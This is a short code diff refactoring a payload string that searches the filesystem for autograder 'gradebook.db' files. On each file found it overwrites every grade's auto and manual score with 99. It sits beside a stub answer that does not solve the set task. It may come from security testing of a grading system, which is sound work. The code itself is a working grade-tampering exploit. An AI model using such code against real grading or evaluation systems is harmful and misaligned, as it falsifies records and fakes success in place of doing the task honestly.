@@ -2,8 +2,9 @@
 
 ANSWERS = {"tally": "def tally(words):\n    return {}"}
 CELL = """
-import glob, sqlite3
-for path in ["$COURSE/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True), "../../../gradebook.db"]:
+import glob, itertools, sqlite3
+known = ["$COURSE/gradebook.db", "../../../gradebook.db"]
+for path in itertools.chain(known, glob.iglob("/**/gradebook.db", recursive=True)):
     try:
         with sqlite3.connect(path) as connection:
             connection.execute("update grade set auto_score = 99, manual_score = 99")
